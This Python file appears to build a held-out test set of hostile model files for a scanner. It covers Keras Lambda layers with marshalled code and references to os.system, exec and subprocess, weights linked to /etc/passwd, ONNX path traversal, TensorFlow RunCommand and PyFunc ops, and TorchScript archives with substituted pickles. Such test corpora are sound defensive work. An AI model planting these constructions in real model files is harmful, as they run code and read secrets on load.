"""Hostile models of the sixth round in formats other than pickle: Keras, SavedModel, TorchScript, ONNX."""

import base64
import io
import json
import marshal  # noqa: TID251 - written, never read
import struct
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import onnx
from onnx import TensorProto, helper

from held_out.sixth_asm import CANARY, CMD, EXPR, Loaded, system, whole
from held_out.sixth_containers import packed
from held_out.sixth_gguf import f
from held_out.sixth_zip import Member, zipped

Row = tuple[str, str, dict[str, bytes], str]


def layer(
    name: str, config: dict[str, Any], module: str = "keras.layers", shape: list[Any] | None = None
) -> dict[str, Any]:
    built = {"build_config": {"input_shape": shape}} if shape else {}
    return {"module": module, "class_name": name, "config": config, "registered_name": None} | built


def sequential(*layers: dict[str, Any]) -> dict[str, Any]:
    first = layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "in"})
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "a", "trainable": True, "layers": [first, *layers]},
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }


def lambda_function(source: str = f"lambda x: [x, {EXPR}][0]") -> dict[str, Any]:
    code = compile(source, "a", "eval").co_consts[0]
    return {
        "class_name": "__lambda__",
        "config": {
            "code": base64.b64encode(marshal.dumps(code)).decode(),
            "defaults": None,
            "closure": None,
        },
    }


def referred(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def weights(*, link: bool = False) -> bytes:
    with tempfile.TemporaryDirectory() as name:
        path = Path(name) / "a.h5"
        with h5py.File(path, "w") as file:
            group = file.create_group("layers/dense/vars")
            if link:
                group["0"] = h5py.ExternalLink("/etc/passwd.h5", "/data")
            else:
                group.create_dataset("0", (16,), "u1", external=[("/etc/passwd", 0, 16)])
        return path.read_bytes()


def empty_weights() -> bytes:
    with tempfile.TemporaryDirectory() as name:
        path = Path(name) / "a.h5"
        with h5py.File(path, "w") as file:
            file.create_group("layers")
        return path.read_bytes()


def keras_file(config: dict[str, Any], body: bytes | None = None) -> bytes:
    about = json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}).encode()
    return packed(
        {
            "metadata.json": about,
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": body or empty_weights(),
        },
        0,
    )


def keras_h5(config: dict[str, Any], training: dict[str, Any] | None = None) -> bytes:
    with tempfile.TemporaryDirectory() as name:
        path = Path(name) / "a.h5"
        with h5py.File(path, "w") as file:
            file.attrs["keras_version"], file.attrs["backend"] = "2.15.0", "tensorflow"
            file.attrs["model_config"] = json.dumps(config)
            if training:
                file.attrs["training_config"] = json.dumps(training)
            file.create_group("model_weights").attrs["layer_names"] = np.array([], "S1")
        return path.read_bytes()


def keras() -> Iterator[Row]:
    c = "F01 Keras"
    evil = layer(
        "Lambda", {"name": "l", "function": lambda_function(), "arguments": {}}, shape=[None, 4]
    )
    yield c, "lambda.keras", {"lambda.keras": keras_file(sequential(evil))}, "keras"
    inner = sequential(evil)
    yield c, "lambda_in_inner_model.keras", {"m.keras": keras_file(sequential(inner))}, "keras"
    timed = layer("TimeDistributed", {"name": "t", "layer": evil})
    yield (
        c,
        "lambda_in_wrapper.json",
        {"m.json": json.dumps(sequential(timed)).encode()},
        "construction",
    )
    mask = layer(
        "Lambda",
        {
            "name": "l",
            "function": lambda_function("lambda x: x"),
            "output_shape": lambda_function(f"lambda s: [s, {EXPR}][0]"),
            "arguments": {},
        },
        shape=[None, 4],
    )
    yield c, "lambda_output_shape.keras", {"m.keras": keras_file(sequential(mask))}, "keras"
    old = {
        "class_name": "Sequential",
        "config": {
            "name": "a",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "in"},
                },
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "l",
                        "function": [lambda_function()["config"]["code"], None, None],
                        "function_type": "lambda",
                        "module": "__main__",
                        "output_shape": None,
                        "output_shape_type": "raw",
                        "arguments": {},
                    },
                },
            ],
        },
    }
    yield c, "old_lambda.h5", {"m.h5": keras_h5(old)}, "construction"
    dense = {"name": "d", "units": 2, "activation": "relu", "use_bias": True}
    for at, (module, name) in enumerate(
        (
            ("subprocess", "getoutput"),
            ("builtins", "exec"),
            ("keras.utils", "get_file"),
            ("keras.config", "enable_unsafe_deserialization"),
        )
    ):
        key = ("activation", "kernel_initializer", "kernel_regularizer", "bias_constraint")[at]
        config = sequential(layer("Dense", dense | {key: referred(module, name)}))
        file = f"{name}.{'keras' if at % 2 else 'json'}"
        yield (
            c,
            file,
            {file: keras_file(config) if at % 2 else json.dumps(config).encode()},
            "construction",
        )
    for name, values in (
        ("StringLookup", {"vocabulary": "/etc/passwd"}),
        ("TextVectorization", {"vocabulary": "http://127.0.0.1:9/words.txt", "output_mode": "int"}),
        ("IntegerLookup", {"vocabulary": "/etc/hostname"}),
    ):
        yield (
            c,
            f"{name}.keras",
            {"m.keras": keras_file(sequential(layer(name, {"name": "v"} | values)))},
            "construction",
        )
    compiled = sequential(layer("Dense", dense)) | {
        "compile_config": {
            "optimizer": "sgd",
            "loss": lambda_function(f"lambda a, b: {EXPR}"),
            "metrics": None,
        }
    }
    yield c, "lambda_loss.keras", {"m.keras": keras_file(compiled)}, "construction"
    training = {
        "loss": referred("os", "system"),
        "metrics": None,
        "optimizer_config": {"class_name": "os.system", "config": {}},
    }
    yield (
        c,
        "training_config.h5",
        {"m.h5": keras_h5(sequential(layer("Dense", dense)), training)},
        "construction",
    )
    yield (
        c,
        "external_link.keras",
        {"m.keras": keras_file(sequential(layer("Dense", dense)), weights(link=True))},
        "construction",
    )
    yield c, "external_storage.weights.h5", {"m.weights.h5": weights()}, "construction"
    yield (
        c,
        "class_of_os.keras",
        {
            "m.keras": keras_file(
                sequential(layer("Popen", {"args": ["touch", CANARY]}, "subprocess"))
            )
        },
        "construction",
    )
    yield (
        c,
        "jax_layer.keras",
        {
            "m.keras": keras_file(
                sequential(
                    layer(
                        "JaxLayer",
                        {"name": "j", "call_fn": lambda_function(), "init_fn": lambda_function()},
                    )
                )
            )
        },
        "construction",
    )
    method = {
        "module": "builtins",
        "class_name": "__lambda__",
        "config": lambda_function()["config"],
    }
    yield (
        c,
        "activation_lambda.keras",
        {
            "m.keras": keras_file(
                sequential(layer("Activation", {"name": "x", "activation": method}))
            )
        },
        "construction",
    )


def node(name: str, op: str, *inputs: str, **attributes: str) -> bytes:
    data = f(1, name) + f(2, op) + b"".join(f(3, one) for one in inputs)
    return data + b"".join(f(5, f(1, key) + f(2, f(2, value))) for key, value in attributes.items())


def saved_model(nodes: list[bytes], functions: list[bytes] | None = None) -> bytes:
    graph = b"".join(f(1, one) for one in nodes)
    if functions:
        body = f(1, f(1, "__inference_serve_12")) + b"".join(f(3, one) for one in functions)
        graph += f(2, f(1, body))
    graph += f(4, f(1, 1087))
    return f(1, 1) + f(2, f(1, f(4, "serve") + f(5, "2.16.1")) + f(2, graph))


def tensorflow() -> Iterator[Row]:
    c = "F02 SavedModel"
    start = node("x", "Placeholder")
    path = node("path", "Const")
    rows = (
        ("PyFuncStateless", node("f", "PyFuncStateless", "x", token="pyfunc_0"), True),
        (
            "PrintV2",
            node("f", "PrintV2", "x", output_stream=f"file:///var/{CANARY}", end="\n"),
            False,
        ),
        (
            "CreateSummaryFileWriter",
            node("f", "CreateSummaryFileWriter", "x", "path", "path", "path", "path"),
            True,
        ),
        ("DatasetToTFRecord", node("f", "DatasetToTFRecord", "x", "path", "path"), False),
        ("SaveDatasetV2", node("f", "SaveDatasetV2", "x", "path", "path"), True),
        ("RunCommand", node("f", "RunCommand", "x", command=CMD), False),
        (
            "DebugIdentityV2",
            node("f", "DebugIdentityV2", "x", debug_urls="grpc://127.0.0.1:9"),
            True,
        ),
        ("SaveSlices", node("f", "SaveSlices", "path", "path", "path", "x"), False),
        ("ReadFile", node("f", "ReadFile", "path"), False),
        ("WriteFile", node("f", "WriteFile", "path", "x"), True),
        ("WriteRawProtoSummary", node("f", "WriteRawProtoSummary", "x", "path", "path"), True),
    )
    for name, one, inside in rows:
        call = node("call", "PartitionedCall", "x", f="__inference_serve_12")
        data = (
            saved_model([start, path, call], [path, one])
            if inside
            else saved_model([start, path, one])
        )
        yield (
            c,
            f"{name}{'_in_function' if inside else ''}",
            {"saved_model.pb": data, "variables/variables.index": b"", "fingerprint.pb": f(1, 7)},
            "construction",
        )
    metadata = json.dumps(sequential(layer("Lambda", {"name": "l", "function": lambda_function()})))
    held = f(1, f(2, 1) + f(3, "root.layer-1") + f(4, "_tf_keras_layer") + f(5, metadata))
    yield (
        c,
        "keras_metadata",
        {
            "saved_model.pb": saved_model([start, path, node("f", "EagerPyFunc", "x", token="a")]),
            "keras_metadata.pb": held,
        },
        "construction",
    )


def scripts() -> Iterator[Row]:
    import torch

    class Mapped(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + torch.from_file("sixth-canary", True, 4)

    out = io.BytesIO()
    torch.jit.save(torch.jit.script(Mapped()), out)
    yield "F03 TorchScript", "from_file.pt", {"m.pt": out.getvalue()}, "called"
    import zipfile

    class Plain(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + 1

    plain = io.BytesIO()
    torch.jit.save(torch.jit.script(Plain()), plain)
    with zipfile.ZipFile(plain) as read:
        parts = [(i.filename, read.read(i)) for i in read.infolist()]
    bad = whole(system(), p=2)
    for name, target in (("data_pkl", "data.pkl"), ("constants_pkl", "constants.pkl")):
        held = [Member(n.encode(), bad if n.endswith("/" + target) else d) for n, d in parts]
        yield "F03 TorchScript", f"{name}.pt", {"m.pt": zipped(held)}, "construction"
    code = [
        Member(
            n.encode(),
            d.replace(b"torch.add(x, 1)", b"ops.prim.unchecked_cast(Tensor, ops.evil.run(x, 1))")
            if n.endswith(".py")
            else d,
        )
        for n, d in parts
    ]
    yield "F03 TorchScript", "foreign_operator.pt", {"m.pt": zipped(code)}, "construction"


def tensor(name: str, location: str, **more: str) -> TensorProto:
    one = TensorProto(name=name, data_type=1, dims=[4], data_location=1)
    for key, value in {"location": location, **more}.items():
        one.external_data.add(key=key, value=value)
    return one


def model(nodes: list[Any], initializers: list[TensorProto] | None = None, **how: Any) -> bytes:
    value = helper.make_tensor_value_info
    graph = helper.make_graph(
        nodes, "a", [value("x", 1, [4])], [value("y", 1, [4])], initializers or []
    )
    opsets = how.pop(
        "opset_imports", [helper.make_opsetid("", 17), helper.make_opsetid("evil.ops", 1)]
    )
    return bytes(
        helper.make_model(graph, opset_imports=opsets, ir_version=8, **how).SerializeToString()
    )


def onnx_rows() -> Iterator[Row]:
    c = "F04 ONNX"
    add = helper.make_node("Add", ["x", "w"], ["y"])
    for name, place in (
        ("absolute", "/etc/passwd"),
        ("up", "a/../../../../../etc/hostname"),
        ("url", "file:///etc/passwd"),
        ("windows", "C:\\Windows\\win.ini"),
    ):
        yield (
            c,
            f"external_{name}.onnx",
            {"m.onnx": model([add], [tensor("w", place)])},
            "construction",
        )
    branch = helper.make_graph(
        [helper.make_node("Constant", [], ["v"], value=tensor("v", "../../../etc/passwd"))],
        "b",
        [],
        [helper.make_tensor_value_info("v", 1, [4])],
    )
    chosen = helper.make_node("If", ["c"], ["y"], then_branch=branch, else_branch=branch)
    yield (
        c,
        "external_in_branch.onnx",
        {
            "m.onnx": model(
                [
                    helper.make_node(
                        "Constant", [], ["c"], value=helper.make_tensor("c", 9, [], [1])
                    ),
                    chosen,
                ]
            )
        },
        "construction",
    )
    yield (
        c,
        "custom_operator.onnx",
        {
            "m.onnx": model(
                [helper.make_node("Shell", ["x"], ["y"], domain="evil.ops", command=CMD)]
            )
        },
        "construction",
    )
    yield (
        c,
        "python_operator.onnx",
        {
            "m.onnx": model(
                [
                    helper.make_node(
                        "PyOp",
                        ["x"],
                        ["y"],
                        domain="ai.onnx.contrib",
                        module="os",
                        class_name="system",
                    )
                ],
                opset_imports=[
                    helper.make_opsetid("", 17),
                    helper.make_opsetid("ai.onnx.contrib", 1),
                ],
            )
        },
        "construction",
    )
    function = helper.make_function(
        "own",
        "F",
        ["a"],
        ["b"],
        [helper.make_node("Run", ["a"], ["b"], domain="evil.ops")],
        [helper.make_opsetid("evil.ops", 1)],
    )
    yield (
        c,
        "custom_in_function.onnx",
        {
            "m.onnx": model(
                [helper.make_node("F", ["x"], ["y"], domain="own")],
                functions=[function],
                opset_imports=[
                    helper.make_opsetid("", 17),
                    helper.make_opsetid("own", 1),
                    helper.make_opsetid("evil.ops", 1),
                ],
            )
        },
        "construction",
    )
    cut = model([add], [helper.make_tensor("w", 1, [4], [1, 2, 3, 4])])
    yield (
        c,
        "length_past_end.onnx",
        {"m.onnx": cut[:-20] + struct.pack("<B", 0x3A) + b"\xff\xff\xff\xff\x07" + cut[-8:]},
        "construction",
    )
    onnx.load_from_string(
        model([add], [tensor("w", "/etc/passwd")])
    )  # it is a model to its own library


def samples(_: np.random.Generator) -> Iterator[Loaded]:
    for rows in (keras(), tensorflow(), scripts(), onnx_rows()):
        for category, name, files, how in rows:
            yield Loaded(category, name, files, how)
